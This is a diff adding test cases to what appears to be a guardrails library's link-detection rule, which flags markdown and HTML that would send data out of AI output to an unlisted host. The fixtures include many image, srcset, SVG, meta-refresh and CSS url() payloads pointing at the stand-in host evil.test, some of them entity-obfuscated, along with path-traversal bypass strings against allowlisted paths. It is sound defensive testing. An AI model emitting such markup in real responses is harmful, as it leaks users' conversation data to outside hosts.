@@ -4,8 +4,10 @@ import base64
 
 import pytest
 
+from guardrails.chain import Chain, ChainRule
 from guardrails.rules.links import Links
 from guardrails.text import Text
+from tests.guard_doubles import assert_streams_alike
 
 ALLOW = Links("l", ["example.com", "*.example.org"])
 ANY = Links("l")
@@ -62,6 +64,18 @@ def test_foreign_hosts(text: str, address: str) -> None:
         "![x](https://0123456789abcdef@evil.test/)",
         "![x](https://evil.test/#0123456789abcdef)",
         "[click](https://evil.test/?q=" + "a1b2" * 50 + ")",
+        "![x][1]\n\n> [1]:\n   //evil.test/?x=0123456789abcdef",
+        '<img srcset="a.png 1x, //evil.test/?x=0123456789abcdef 2x">',
+        "<IMG alt='a > b' SRC = https://evil.test/?x=0123456789abcdef>",
+        "<svg><image xlink:href='https://evil.test/?x=0123456789abcdef'/></svg>",
+        '<meta http-equiv="refresh" content="0;url=https://evil.test/?x=0123456789abcdef">',
+        "<style>@import 'https://evil.test/?x=0123456789abcdef';</style>",
+        "<p style='background:url( \"https://evil.test/?x=0123456789abcdef\" )'>",
+        "div { background: image-set('a.png' 1x, 'https://evil.test/?x=0123456789abcdef' 2x) }",
+        "![" + "a long text " * 40 + "](https://evil.test/?x=0123456789abcdef)",
+        "<img alt='" + "a long text " * 40 + "' src='https://evil.test/?x=0123456789abcdef'>",
+        "![x](https:&#47;&#x2f;evil.test/?x=0123456789abcdef)",
+        "<img src='&#104;ttps&colon;//evil.test/?x=0123456789abcdef'>",
     ],
 )
 def test_markup_that_carries_data_out(text: str) -> None:
@@ -75,6 +89,7 @@ def test_markup_that_carries_data_out(text: str) -> None:
         "![badge](https://img.test/badge/build.svg?style=flat)",
         "[docs](https://docs.test/search?q=how+to+sort&page=2)",
         "<img src='https://cdn.test/a/b/c/photo-1500.jpg?w=800'>",
+        "f(a, //note\n  b) and postgres://db.test/x?sslmode=require&connect_timeout=10",
         "see https://github.test/a/b/blob/3f786850e387550fdab836ed7e6dc881de23001b/src/x.py#L10-L20",
     ],
 )
@@ -82,9 +97,62 @@ def test_common_markup_is_none(text: str) -> None:
     assert _found(ANY, text) == []
 
 
+PATHS = Links("l", ["example.com/docs/", "*.example.org/a/b", "whole.test", "whole.test/part"])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "https://example.com/docs/",
+        "see https://example.com/docs.",
+        "(https://example.com/docs/a/b.html?c=d#e), and",
+        "https://x.y.example.org/a/b/c",
+        "https://whole.test/anything",
+        "![logo](https://example.com/docs/logo.png?conversation=abcdefghijklmnopqrstuvwxyz)",
+    ],
+)
+def test_below_an_allowed_path(text: str) -> None:
+    assert _found(PATHS, text) == []
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://example.com/",
+        "https://example.com/docsearch",
+        "https://example.com/DOCS/",
+        "https://example.com/docs/../admin",
+        "https://example.com/docs/%2E%2e/admin",
+        "https://example.com/docs/.%2e/admin",
+        "https://example.com?/docs/",
+        "https://example.org/a/b",
+        "https://x.example.org/a/bc",
+    ],
+)
+def test_beside_an_allowed_path(address: str) -> None:
+    assert _found(PATHS, f"see {address} now") == [("link", address)]
+
+
+def test_a_backslash_behind_an_allowed_path_leads_anywhere() -> None:
+    assert _found(PATHS, "https://example.com/docs/a\\..\\..\\admin") == [("link", "https://example.com/docs/a")]
+
+
+def test_an_address_whose_beginning_is_hidden_is_a_link_to_elsewhere() -> None:
+    assert _found(ALLOW, "go to htt&#112;s://example.com/ now") == [("link", "htt&#112;s://example.com/")]
+
+
+def test_links_in_streams() -> None:
+    rules = Chain([ChainRule(Links("l", ["example.com/docs"], longest_address=60), "redact")], Text)
+    text = "See https://example.com/docs/a, https://example.com/b and ![x](https://evil.test/?q=0123456789abcdef), [2]: //evil.test."
+    assert assert_streams_alike(rules, text).text == "See https://example.com/docs/a, [LINK] and ![x]([EXFILTRATION] [2]: [LINK]"
+
+
 def test_what_is_no_domain() -> None:
     with pytest.raises(ValueError, match=r"'https://a' is no domain; write example\.com"):
         Links("l", ["https://a"])
+    for entry in ("example.com/a?b", "example.com/a#b", "/docs", "example.com:80"):
+        with pytest.raises(ValueError, match="is no domain"):
+            Links("l", [entry])
 
 
 def test_what_a_stream_holds_back() -> None:
